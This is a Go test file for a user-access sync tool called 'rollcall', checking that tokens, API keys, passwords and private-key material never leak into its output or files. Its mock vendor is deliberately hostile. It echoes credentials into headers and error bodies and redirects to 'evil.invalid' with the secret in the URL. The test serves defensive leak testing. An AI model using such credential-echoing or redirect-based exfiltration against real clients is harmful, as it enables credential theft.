package main

import (
	"bytes"
	"cmp"
	"crypto/rand"
	"crypto/rsa"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"maps"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"rollcall/providers/simulator"
)

// The canaries are secrets that are told apart wherever they turn up. They have
// characters that every encoding writes differently.
const (
	envCanary      = `env/canary+7Qz?&w="9t'Kx~P4`
	fileCanary     = `file/canary+3Vb?&m="5r'Jd~L8`
	commandCanary  = `command/canary+1Hn?&k="2y'Sf~G6`
	keyCanary      = `apikey/canary+4Tc?&p="8e'Zb~N2`
	passwordCanary = `password/Canary+6Wm?&j="3u'Hg~R7`
)

const secretsConfig = `version: 1
providers:
  byenv: {kind: vendasta, partner: AAA, baseURL: BASEURL, auth: {token: {env: ROLLCALL_CANARY}}, rate: unlimited, retries: 0}
  byfile: {kind: vendasta, partner: BBB, baseURL: BASEURL, auth: {token: {file: token.secret}}, rate: unlimited, retries: 0}
  bycommand: {kind: vendasta, partner: CCC, baseURL: BASEURL, auth: {token: {command: [cat, command.secret]}}, rate: unlimited, retries: 0}
  bykey: {kind: vendasta, partner: DDD, baseURL: BASEURL, tokenURL: TOKENURL, auth: {serviceAccount: {file: key.secret}}, rate: unlimited, retries: 0}
  byapikey: {kind: partoo, baseURL: PARTOOBASEURL, auth: {apiKey: {env: ROLLCALL_KEY_CANARY}}, rate: unlimited, retries: 0}
`

const secretsRoster = `version: 1
teams:
  all:
    access:
      byenv: &grants {platformAccess: ["pc:access"]}
      byfile: *grants
      bycommand: *grants
      bykey: *grants
      byapikey: {role: PUBLISHER}
people:
  - {email: ana@example.com, status: departed}
  - {email: bill@example.com, givenName: Bill, teams: [all]}
  - email: cara@example.com
    givenName: Cara
    familyName: Diaz
    teams: [all]
    access: {byapikey: {password: {file: password.secret}}}
`

// A treasury is a directory with every kind of secret, and a vendor that does
// what it can to have them shown.
type treasury struct {
	dir      string
	world    *simulator.World
	hostile  string // what the vendor puts the credentials into
	mu       sync.Mutex
	canaries map[string]string // name → what must never be seen
	used     map[string]bool   // the credentials that came to the vendor
}

func newTreasury(t *testing.T) *treasury {
	t.Helper()
	y := &treasury{
		dir: t.TempDir(), used: make(map[string]bool),
		canaries: map[string]string{"env": envCanary, "file": fileCanary, "command": commandCanary, "key": keyCanary, "password": passwordCanary},
		world:    simulator.New(simulator.Options{}),
	}
	key, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	file := keyFile(key)
	var members struct {
		Key string `json:"private_key"`
	}
	if err := json.Unmarshal(file, &members); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(members.Key), "\n")
	for i, line := range lines[1 : len(lines)-1] {
		y.canaries[fmt.Sprintf("key line %d", i+1)] = line
	}
	for _, partner := range []string{"AAA", "BBB", "CCC", "DDD"} {
		for _, name := range []string{"ana", "bill"} {
			if _, err := y.world.Add("vendasta", map[string]any{
				"id": name + partner, "partner": partner, "attributes": map[string]any{"email": name + "@example.com"}, "platformAccess": []any{"tm:access"},
			}); err != nil {
				t.Fatal(err)
			}
		}
	}
	for _, name := range []string{"ana", "bill"} {
		if _, err := y.world.Add("partoo", map[string]any{"email": name + "@example.com", "first_name": "F", "last_name": "L", "role": "ORG_MANAGER"}); err != nil {
			t.Fatal(err)
		}
	}
	server := httptest.NewServer(y.handler())
	t.Cleanup(server.Close)
	endpoint := y.world.Endpoint(server.URL, "vendasta")
	write(t, y.dir, "rollcall.yaml", strings.NewReplacer(
		"PARTOOBASEURL", y.world.Endpoint(server.URL, "partoo").BaseURL, "BASEURL", endpoint.BaseURL, "TOKENURL", endpoint.TokenURL,
	).Replace(secretsConfig))
	write(t, y.dir, "password.secret", passwordCanary+"\n")
	write(t, y.dir, "roster.yaml", secretsRoster)
	write(t, y.dir, "token.secret", fileCanary+"\n")
	write(t, y.dir, "command.secret", commandCanary+"\r\n")
	write(t, y.dir, "key.secret", string(file))
	return y
}

// handler notes every credential and, when it is hostile, shows it wherever an
// answer has room.
func (y *treasury) handler() http.Handler {
	vendor := y.world.Handler()
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, err := io.ReadAll(r.Body)
		if err != nil {
			return
		}
		r.Body = io.NopCloser(bytes.NewReader(body))
		secret := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
		atToken := strings.HasSuffix(r.URL.Path, "/token")
		key := r.Header.Get("X-Apikey")
		if key != "" {
			y.note("credential", key)
			var create struct{ Password string }
			_ = json.Unmarshal(body, &create) // most requests have no body
			y.note("password", create.Password)
			secret = cmp.Or(create.Password, key)
		}
		if atToken {
			form, _ := url.ParseQuery(string(body))
			secret = form.Get("assertion")
			y.note("assertion", secret)
		} else {
			y.note("credential", secret)
		}
		switch y.mood("") {
		case "token error":
			if atToken {
				http.Error(w, fmt.Sprintf(`{"error": %q, "error_description": %q}`, last(secret, 60), secret), http.StatusBadRequest)
				return
			}
		case "token header":
			if atToken {
				w.Header().Set("X-Request-Id", last(secret, 100))
				http.Error(w, secret, http.StatusServiceUnavailable)
				return
			}
		case "headers":
			for _, name := range []string{"X-Request-Id", "Retry-After", "Content-Type", "Location", "Www-Authenticate", "Date"} {
				w.Header().Set(name, secret)
			}
			w.WriteHeader(http.StatusForbidden)
			return
		case "codes":
			if key != "" {
				w.Header().Set("Content-Type", "application/json")
				w.WriteHeader(http.StatusBadRequest)
				_ = json.NewEncoder(w).Encode(map[string]any{"errors": map[string]any{secret: secret, "json": map[string]any{secret: []string{secret}, "email": secret}}})
				return
			}
			w.Header().Set("Content-Type", "application/vnd.api+json")
			w.WriteHeader(http.StatusUnprocessableEntity)
			_ = json.NewEncoder(w).Encode(map[string]any{"errors": []any{map[string]any{
				"code": secret, "title": secret, "detail": secret, "source": map[string]any{"pointer": "/" + secret, "parameter": secret},
			}}})
			return
		case "redirect":
			http.Redirect(w, r, "https://evil.invalid/"+url.PathEscape(secret)+"?t="+url.QueryEscape(secret), http.StatusTemporaryRedirect)
			return
		case "users":
			if key != "" && r.Method == http.MethodGet {
				w.Header().Set("Content-Type", "application/json")
				_ = json.NewEncoder(w).Encode(map[string]any{"page": 1, "max_page": 1, "count": 1, "users": []any{map[string]any{
					"id": secret, "email": r.URL.Query().Get("email"), "first_name": secret, "role": base64.StdEncoding.EncodeToString([]byte("x" + secret)), "disabled": false,
				}}})
				return
			}
			if r.Method == http.MethodGet && !atToken {
				w.Header().Set("Content-Type", "application/vnd.api+json")
				_ = json.NewEncoder(w).Encode(map[string]any{"data": []any{map[string]any{
					"type": "users", "id": secret, "attributes": map[string]any{
						"email": r.URL.Query().Get("filter[email]"), "displayName": secret, "givenName": base64.StdEncoding.EncodeToString([]byte("x" + secret)),
					},
					"relationships": map[string]any{"platformAccess": map[string]any{"data": []any{map[string]any{"type": "appFeatures", "id": secret}}}},
				}}})
				return
			}
		}
		recorder := httptest.NewRecorder()
		vendor.ServeHTTP(recorder, r)
		var issued struct {
			Token string `json:"access_token"`
		}
		if atToken && json.Unmarshal(recorder.Body.Bytes(), &issued) == nil && issued.Token != "" {
			y.note("issued", issued.Token)
		}
		maps.Copy(w.Header(), recorder.Header())
		w.WriteHeader(recorder.Code)
		_, _ = recorder.Body.WriteTo(w)
	})
}

// mood sets what the vendor does, unless it is empty, and returns it.
func (y *treasury) mood(hostile string) string {
	y.mu.Lock()
	defer y.mu.Unlock()
	y.hostile = cmp.Or(hostile, y.hostile)
	return y.hostile
}

func last(text string, n int) string { return text[max(0, len(text)-n):] }

// note remembers a credential that came by, as one more canary.
func (y *treasury) note(kind, secret string) {
	if secret == "" {
		return
	}
	y.mu.Lock()
	defer y.mu.Unlock()
	y.used[secret] = true
	if kind == "assertion" {
		// Its header and claims are no secret, and no claim makes a signature.
		secret = secret[strings.LastIndexByte(secret, '.')+1:]
	}
	if !slices.Contains(slices.Collect(maps.Values(y.canaries)), secret) {
		y.canaries[fmt.Sprintf("%s %d", kind, len(y.canaries))] = secret
	}
}

// run runs the program as a process of its own and returns everything that it
// left behind: both streams, and each file in the directory.
func (y *treasury) run(t *testing.T, args ...string) map[string]string {
	t.Helper()
	command := exec.Command("rollcall", append([]string{"-C", y.dir}, args...)...)
	command.Env = append(os.Environ(), "ROLLCALL_CANARY="+envCanary, "ROLLCALL_KEY_CANARY="+keyCanary)
	var stdout, stderr bytes.Buffer
	command.Stdout, command.Stderr = &stdout, &stderr
	var exit *exec.ExitError
	if err := command.Run(); err != nil && !errors.As(err, &exit) {
		t.Fatal(err)
	}
	left := map[string]string{"standard output": stdout.String(), "standard error": stderr.String()}
	err := fs.WalkDir(os.DirFS(y.dir), ".", func(path string, entry fs.DirEntry, err error) error {
		if err != nil || entry.IsDir() || filepath.Ext(path) == ".secret" {
			return err
		}
		data, err := os.ReadFile(filepath.Join(y.dir, path))
		left[path] = string(data)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return left
}

// found lists the canaries in a text, in any form.
func (y *treasury) found(text string) []string {
	y.mu.Lock()
	defer y.mu.Unlock()
	var names []string
	for _, name := range slices.Sorted(maps.Keys(y.canaries)) {
		for form, encoded := range forms(y.canaries[name]) {
			if strings.Contains(text, encoded) {
				names = append(names, name+" "+form)
			}
		}
	}
	return names
}

// forms are the ways in which a secret may stand in a text. They are made here
// once more, apart from those that the program knows.
func forms(secret string) map[string]string {
	quoted, err := json.Marshal(secret)
	if err != nil {
		panic(err)
	}
	all := map[string]string{
		"as it is": secret, "in a query": url.QueryEscape(secret), "in a path": url.PathEscape(secret),
		"in JSON": string(quoted[1 : len(quoted)-1]), "quoted": fmt.Sprintf("%q", secret)[1 : len(fmt.Sprintf("%q", secret))-1],
		"in hex": hex.EncodeToString([]byte(secret)), "in upper hex": strings.ToUpper(hex.EncodeToString([]byte(secret))),
	}
	for name, encoding := range map[string]*base64.Encoding{"base64": base64.StdEncoding, "base64 for URLs": base64.URLEncoding} {
		for shift := range 3 {
			// With what may stand before and behind it taken away.
			encoded := encoding.EncodeToString([]byte(strings.Repeat("\x00", shift) + secret + "\x00\x00"))
			all[fmt.Sprintf("in %s, shifted by %d", name, shift)] = encoded[(shift*8+5)/6 : (shift+len(secret))*8/6]
		}
	}
	return all
}

// TestSecretsStaySecret runs every command against a vendor that shows the
// credentials wherever it can, and looks for them in all that is left behind.
func TestSecretsStaySecret(t *testing.T) {
	t.Parallel()
	every := func(rule simulator.Rule) simulator.Chaos {
		return simulator.Chaos{EchoAuthorization: true, Fail: []simulator.Rule{rule}}
	}
	tests := []struct {
		name    string
		chaos   simulator.Chaos
		hostile string
	}{
		{name: "401", chaos: every(simulator.Rule{Fault: simulator.FaultStatus, Status: 401})},
		{name: "403", chaos: every(simulator.Rule{Fault: simulator.FaultStatus, Status: 403})},
		{name: "422", chaos: every(simulator.Rule{Fault: simulator.FaultStatus, Status: 422})},
		{name: "500", chaos: every(simulator.Rule{Fault: simulator.FaultStatus, Status: 500})},
		{name: "HTML", chaos: every(simulator.Rule{Fault: simulator.FaultHTML})},
		{name: "writes 401", chaos: simulator.Chaos{EchoAuthorization: true, Fail: []simulator.Rule{
			{Operation: simulator.Update, Fault: simulator.FaultStatus, Status: 401}, {Operation: simulator.Create, Fault: simulator.FaultStatus, Status: 401},
		}}},
		{name: "writes 422", chaos: simulator.Chaos{EchoAuthorization: true, Fail: []simulator.Rule{
			{Operation: simulator.Update, Fault: simulator.FaultStatus, Status: 422}, {Operation: simulator.Create, Fault: simulator.FaultStatus, Status: 422},
		}}},
		{name: "token endpoint 500", chaos: every(simulator.Rule{Operation: simulator.Token, Fault: simulator.FaultStatus, Status: 500})},
		{name: "token error", hostile: "token error"},
		{name: "token header", hostile: "token header"},
		{name: "headers", hostile: "headers"},
		{name: "codes", hostile: "codes"},
		{name: "redirect", hostile: "redirect"},
		{name: "users", hostile: "users"},
		{name: "none"},
	}
	y := newTreasury(t)
	for _, test := range tests {
		y.world.SetChaos(test.chaos)
		y.mood(cmp.Or(test.hostile, "kind"))
		commands := [][]string{
			{"plan"},
			{"plan", "--format", "json", "-v", "--out", "saved.json"},
			{"explain", "ana@example.com"},
			{"apply", "--yes", "-v", "--log-format", "json", "--result", "result.json"},
			{"apply", "--yes", "-v", "--result", "result.json", "saved.json"},
		}
		if test.name == "none" {
			commands = append(commands, []string{"validate"}, []string{"apply", "--yes", "-v", "--simulate"})
		}
		for _, args := range commands {
			for where, text := range y.run(t, args...) {
				if names := y.found(text); len(names) > 0 {
					t.Errorf("%s, %s: %s has %s", test.name, args[0], where, strings.Join(names, "; "))
				}
			}
		}
	}
	for name, canary := range y.canaries {
		if slices.Contains([]string{"env", "file", "command", "key", "password"}, name) && !y.used[canary] {
			t.Errorf("the canary in %s never came to the vendor", name)
		}
	}
	if y.world.Counts().Faults["echo-authorization"] == 0 {
		t.Error("the vendor never echoed credentials")
	}
	if got := y.world.Counts().Created; got != 5 {
		t.Errorf("%d users were created in the end, want 5", got)
	}
}

// TestMalformedSecretsStaySecret: what is wrong with a secret is told without it.
func TestMalformedSecretsStaySecret(t *testing.T) {
	t.Parallel()
	y := newTreasury(t)
	whole, err := os.ReadFile(filepath.Join(y.dir, "key.secret"))
	if err != nil {
		t.Fatal(err)
	}
	for name, secrets := range map[string][2]string{
		"cut":        {string(whole[:len(whole)/2]), "token"},
		"not base64": {strings.ReplaceAll(string(whole), "MII", "!!!"), "token"},
		"no JSON":    {fileCanary, "token"},
		"two lines":  {string(whole), fileCanary + "\n" + fileCanary},
		"control":    {string(whole), fileCanary + "\x01"},
	} {
		write(t, y.dir, "key.secret", secrets[0])
		write(t, y.dir, "token.secret", secrets[1])
		left := y.run(t, "apply", "--yes", "-v", "--result", "result.json")
		if !strings.Contains(left["result.json"], `"exit": 5`) {
			t.Errorf("%s: %s", name, left["result.json"])
		}
		for where, text := range left {
			if names := y.found(text); len(names) > 0 {
				t.Errorf("%s: %s has %s: %s", name, where, strings.Join(names, "; "), text)
			}
		}
	}
}

// TestSecretsAreFound proves that the search above can find: a canary that is
// planted in what a run prints is seen, and so is each form of each.
func TestSecretsAreFound(t *testing.T) {
	t.Parallel()
	y := newTreasury(t)
	write(t, y.dir, "roster.yaml", strings.Replace(secretsRoster, "givenName: Bill", "givenName: '"+strings.ReplaceAll(envCanary, "'", "''")+"'", 1))
	// Simulated vendors need no secret, so that none is known and taken out.
	left := y.run(t, "--simulate", "apply", "--yes", "--result", "result.json")
	for _, where := range []string{"standard output", "result.json", filepath.Join(".rollcall", "simulator.json")} {
		if !slices.ContainsFunc(y.found(left[where]), func(name string) bool { return strings.HasPrefix(name, "env ") }) {
			t.Errorf("the planted canary is not found in %s: %s", where, left[where])
		}
	}
	for name, canary := range y.canaries {
		for form, encoded := range forms(canary) {
			if len(encoded) < 20 || !slices.Contains(y.found("before"+encoded+"behind"), name+" "+form) {
				t.Errorf("%s %s is not found", name, form)
			}
		}
		for _, around := range []string{"", "a", "ab"} {
			text := base64.StdEncoding.EncodeToString([]byte(around + canary + "around"))
			if len(y.found(text)) == 0 {
				t.Errorf("%s is not found in base64 behind %q", name, around)
			}
		}
	}
}
